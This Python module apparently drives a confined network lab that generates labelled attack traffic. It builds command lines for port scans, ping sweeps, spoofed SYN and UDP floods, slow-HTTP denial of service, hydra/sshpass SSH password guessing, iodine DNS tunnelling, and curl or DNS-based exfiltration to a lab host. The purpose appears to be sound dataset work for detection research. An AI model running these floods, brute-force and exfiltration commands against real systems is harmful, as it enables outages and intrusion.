"""What the attacker does: a table of attack kinds, each with a seeded plan, a way to run and the
endpoints that it touches (from which its label rules follow).

All attacks are bounded in count and time, and end in the session's own namespaces. An attack never
chooses what its label is: everything between the attacker and `victims` while it runs is the attack.
"""

import sys
from collections import namedtuple
from pathlib import Path

from activities import SSH_OPTIONS

HERE = Path(__file__).resolve().parent
Attack = namedtuple("Attack", "tools plan run")
LIMIT_S = 32
WORDS = ("admin", "root", "test", "guest", "oracle", "user", "backup", "service")


def plan_attack(kind, rng, plan, turn):
    """Parameters of one attack: the target and the tool are part of them."""
    tools = ATTACKS[kind].tools
    tool = tools[turn % len(tools)]
    parameters = {"tool": tool, "target": rng.choice(plan["servers"])}
    parameters.update(ATTACKS[kind].plan(rng, plan, tool))
    return parameters


def victims(lab, kind, parameters):
    """Addresses of the other side: the target, and the router that answers for missing hosts."""
    if kind == "ping_sweep":
        return [f"{lab.plan['subnets']['servers']}.0/24", lab.address("r2")]
    return [lab.address(parameters["target"]), lab.address("r2")]


def python_tool(name, *arguments):
    return [sys.executable, HERE / f"tools/{name}.py", *arguments]


def port_list(rng, count, low_share):
    """Ports to scan: well-known ones first in line, the rest anywhere."""
    low = rng.sample(range(1, 1024), min(1000, int(count * low_share)))
    high = rng.sample(range(1024, 60000), count - len(low))
    return ",".join(map(str, sorted(low + high)))


def service_ports(plan):
    ports = plan["services"]["ports"]
    return f"{ports['http']},{ports['https']},{ports['ssh']},{ports['mqtt']}"


def plan_syn_scan(rng, plan, tool):
    slow = plan["conditions"]["filtered"]
    count = rng.randrange(100, 300 if slow else 900)
    return {"ports": port_list(rng, count, rng.choice((0.3, 0.8))) + "," + service_ports(plan),
            "rate": max(count // 22, rng.choice((30, 60, 120, 300))),
            "source_port": rng.choice((0, 0, 53, 40125)), "template": rng.choice((3, 4))}


def run_syn_scan(lab, parameters):
    argv = ["nmap", "-sS", "-Pn", "-n", f"-T{parameters['template']}", "--max-retries", "1",
            "--max-rate", parameters["rate"], "-p", parameters["ports"]]
    if parameters["tool"] == "nmap_quick":
        argv[7:9] = ["--min-rate", parameters["rate"]]
    if parameters["source_port"]:
        argv += ["--source-port", parameters["source_port"]]
    lab.attack([*argv, lab.address(parameters["target"])], LIMIT_S)


def plan_connect_scan(rng, plan, tool):
    slow = plan["conditions"]["filtered"]
    count = rng.randrange(100, 200 if slow else 700)
    return {"ports": port_list(rng, count, rng.choice((0.4, 0.9))) + "," + service_ports(plan),
            "rate": max(count // 22, rng.choice((25, 50, 100, 200))),
            "threads": rng.choice((8, 16, 40))}


def run_connect_scan(lab, parameters):
    target = lab.address(parameters["target"])
    if parameters["tool"] == "nmap":
        argv = ["nmap", "-sT", "-Pn", "-n", "-T4", "--max-retries", "1", "--max-rate",
                parameters["rate"], "-p", parameters["ports"], target]
    else:
        argv = python_tool("connect_scan", target, parameters["ports"], parameters["rate"],
                           parameters["threads"])
    lab.attack(argv, LIMIT_S)


def plan_udp_scan(rng, plan, tool):
    return {"ports": port_list(rng, rng.randrange(50, 200), rng.choice((0.5, 0.9))) + ",53,123,161",
            "retries": rng.randrange(2), "rate": rng.choice((10, 20, 40))}


def run_udp_scan(lab, parameters):
    rate = "--min-rate" if parameters["tool"] == "nmap_quick" else "--max-rate"
    lab.attack(["nmap", "-sU", "-Pn", "-n", "-T4", "--max-retries", parameters["retries"], rate,
                parameters["rate"], "-p", parameters["ports"], lab.address(parameters["target"])],
               LIMIT_S)


def run_ping_sweep(lab, parameters):
    net = lab.plan["subnets"]["servers"]
    if parameters["tool"] == "ping_loop":
        script = (f"for n in $(seq 1 254); do ping -n -q -c 1 -W 1 {net}.$n & sleep "
                  f"{1 / parameters['rate']:.3f}; done; wait")
        return lab.attack(["sh", "-c", script], LIMIT_S)
    probes = ["-PE"] if parameters["tool"] == "nmap_echo" else ["-PE", "-PP", "-PS443", "-PA80"]
    rate = parameters["rate"] * (1 if probes == ["-PE"] else 3)
    return lab.attack(["nmap", "-sn", "-n", *probes, "--max-retries", "0", "--max-rate", rate,
                       f"{net}.0/24"], LIMIT_S)


def flood_port(rng, plan):
    """A port that is open on every server (ssh) or on the web server: floods hit open ports."""
    service = plan["services"]
    if rng.random() < 0.6:
        return {"target": service["place"]["web"],
                "port": service["ports"][rng.choice(("http", "https"))]}
    return {"port": service["ports"]["ssh"]}


def plan_syn_flood(rng, plan, tool):
    return {**flood_port(rng, plan), "count": rng.randrange(500, 1200 if tool == "hping3" else 900),
            "rate": rng.choice((50, 100, 200, 400)), "seed": rng.randrange(10**6)}


def run_syn_flood(lab, parameters):
    target = lab.address(parameters["target"])
    if parameters["tool"] == "hping3":
        argv = ["hping3", "-q", "-S", "-p", parameters["port"], "-c", parameters["count"], "-i",
                f"u{10**6 // parameters['rate']}", target]
    else:
        argv = python_tool("syn_flood", target, parameters["port"], parameters["count"],
                           parameters["rate"], lab.plan["subnets"]["spoofed"], parameters["seed"])
    lab.attack(argv, LIMIT_S)


def plan_udp_flood(rng, plan, tool):
    many = tool == "hping3"
    found = {"port": rng.choice((53, 80, 123, 5060, rng.randrange(1024, 60000))),
             "count": rng.randrange(500, 1000) if many else rng.randrange(800, 2000),
             "rate": rng.choice((60, 120, 250, 400)), "bytes": rng.choice((32, 120, 512, 1024))}
    if not many:
        found["sockets"] = rng.randrange(20, 80)
    return found


def run_udp_flood(lab, parameters):
    target = lab.address(parameters["target"])
    if parameters["tool"] == "hping3":
        argv = ["hping3", "-q", "--udp", "-p", parameters["port"], "-c", parameters["count"], "-d",
                parameters["bytes"], "-i", f"u{10**6 // parameters['rate']}", target]
    else:
        argv = python_tool("udp_flood", target, parameters["port"], parameters["count"],
                           parameters["rate"], parameters["bytes"], parameters["sockets"])
    lab.attack(argv, LIMIT_S)


def plan_slow_http(rng, plan, tool):
    return {"target": plan["services"]["place"]["web"], "port": plan["services"]["ports"]["http"],
            "mode": rng.choice(("headers", "body", "read")), "connections": rng.randrange(20, 60),
            "seconds": rng.randrange(16, 30), "interval_s": rng.choice((2, 4, 7)),
            "rate": rng.choice((4, 10, 25))}


def run_slow_http(lab, parameters):
    target, port = lab.address(parameters["target"]), parameters["port"]
    if parameters["tool"] == "slowhttptest":
        flag = {"headers": "-H", "body": "-B", "read": "-X"}[parameters["mode"]]
        argv = ["slowhttptest", flag, "-c", parameters["connections"], "-r", parameters["rate"],
                "-i", parameters["interval_s"], "-l", parameters["seconds"], "-x", "24", "-u",
                f"http://{target}:{port}/large0"]
    else:
        argv = python_tool("slow_http", target, port, parameters["mode"], parameters["connections"],
                           parameters["seconds"], parameters["interval_s"], parameters["rate"])
    lab.attack(argv, LIMIT_S)


def plan_ssh_guess(rng, plan, tool):
    return {"user": rng.choice(WORDS), "connections": rng.randrange(18, 45), "per_connection":
            rng.randrange(1, 3), "parallel": rng.randrange(1, 4),
            "pause_s": rng.choice((0.05, 0.3, 0.6))}


def run_ssh_guess(lab, parameters):
    target, port = lab.address(parameters["target"]), lab.plan["services"]["ports"]["ssh"]
    guesses = [f"{word}{n}" for n in range(99) for word in WORDS]
    if parameters["tool"] == "hydra":
        words = lab.folder / "guesses.txt"
        words.write_text("\n".join(guesses[:3]) + "\n")
        hydra = ("hydra", "-I", "-l", parameters["user"], "-P", words, "-t",
                 parameters["parallel"] + 1, "-s", port, f"ssh://{target}")
        # One run opens a connection to ask what the server accepts, then one per task.
        return lab.attack(python_tool("guess_loop", parameters["connections"] // 2, 3,
                                      parameters["pause_s"], *map(str, hydra)), LIMIT_S)
    command = [str(part) for part in (
        "sshpass", "-p", "GUESS", "ssh", *SSH_OPTIONS, "-o", "PubkeyAuthentication=no", "-o",
        f"NumberOfPasswordPrompts={parameters['per_connection']}", "-p", port,
        f"{parameters['user']}@{target}")]
    return lab.attack(python_tool("guess_loop", parameters["connections"], parameters["parallel"],
                                  parameters["pause_s"], *command), LIMIT_S)


def plan_dns_tunnel(rng, plan, tool):
    return {"target": "x1", "rounds": rng.randrange(4, 6), "queries": rng.randrange(150, 300),
            "pause_s": rng.choice((0.05, 0.1)), "domain": f"t{rng.randrange(99)}.example",
            "seed": rng.randrange(10**6)}


def run_dns_tunnel(lab, parameters):
    target, domain = lab.address("x1"), parameters["domain"]
    if parameters["tool"] == "own":
        server = lab.spawn("x1", python_tool("dns_tunnel", "serve"))
        lab.attack(python_tool("dns_tunnel", "send", target, domain, parameters["queries"],
                               parameters["pause_s"], parameters["seed"]), LIMIT_S)
        return server.kill()
    server = lab.spawn("x1", ["iodined", "-f", "-c", "-P", "tunnel", "10.99.0.1/24", domain])
    lab.pause(1.5)
    for number in range(parameters["rounds"]):
        client = lab.spawn("a", ["iodine", "-f", "-r", "-P", "tunnel", "-O",
                                 ("Base32", "Base64")[number % 2], target, domain])
        lab.pause(4)
        lab.attack(["ping", "-n", "-q", "-c", 4 + number, "-i", "0.2", "-s", 100 + 60 * number,
                    "10.99.0.1"], 6)
        client.terminate()
        lab.pause(0.5)
    return server.kill()


def plan_exfiltration(rng, plan, tool):
    if tool == "https_post":
        return {"target": "x1", "posts": rng.randrange(20, 40), "bytes": rng.choice((20_000, 60_000)),
                "pause_s": rng.choice((0.2, 0.5))}
    return {"target": plan["services"]["place"]["dns"], "queries": rng.randrange(150, 300),
            "pause_s": rng.choice((0.05, 0.1)), "domain": f"x{rng.randrange(99)}.lab.example",
            "seed": rng.randrange(10**6)}


def run_exfiltration(lab, parameters):
    target = lab.address(parameters["target"])
    if parameters["tool"] == "dns_queries":
        return lab.attack(python_tool("dns_tunnel", "leak", target, parameters["domain"],
                                      parameters["queries"], parameters["pause_s"],
                                      parameters["seed"]), LIMIT_S)
    for _ in range(parameters["posts"]):
        lab.attack(["curl", "-sk", "--max-time", "15", "-o", "/dev/null", "--data-binary",
                    f"@{lab.filler(parameters['bytes'])}", f"https://{target}:443/upload"], 20)
        lab.pause(parameters["pause_s"])
    return None


ATTACKS = {
    "syn_scan": Attack(("nmap", "nmap_quick"), plan_syn_scan, run_syn_scan),
    "connect_scan": Attack(("nmap", "own"), plan_connect_scan, run_connect_scan),
    "udp_scan": Attack(("nmap", "nmap_quick"), plan_udp_scan, run_udp_scan),
    "ping_sweep": Attack(("nmap_echo", "ping_loop", "nmap_mixed"),
                         lambda rng, plan, tool: {"rate": rng.choice((15, 25, 50))}, run_ping_sweep),
    "syn_flood": Attack(("hping3", "spoofed"), plan_syn_flood, run_syn_flood),
    "udp_flood": Attack(("hping3", "own"), plan_udp_flood, run_udp_flood),
    "slow_http": Attack(("own", "slowhttptest"), plan_slow_http, run_slow_http),
    "ssh_guess": Attack(("sshpass", "hydra"), plan_ssh_guess, run_ssh_guess),
    "dns_tunnel": Attack(("iodine", "own"), plan_dns_tunnel, run_dns_tunnel),
    "exfiltration": Attack(("https_post", "dns_queries"), plan_exfiltration, run_exfiltration),
}
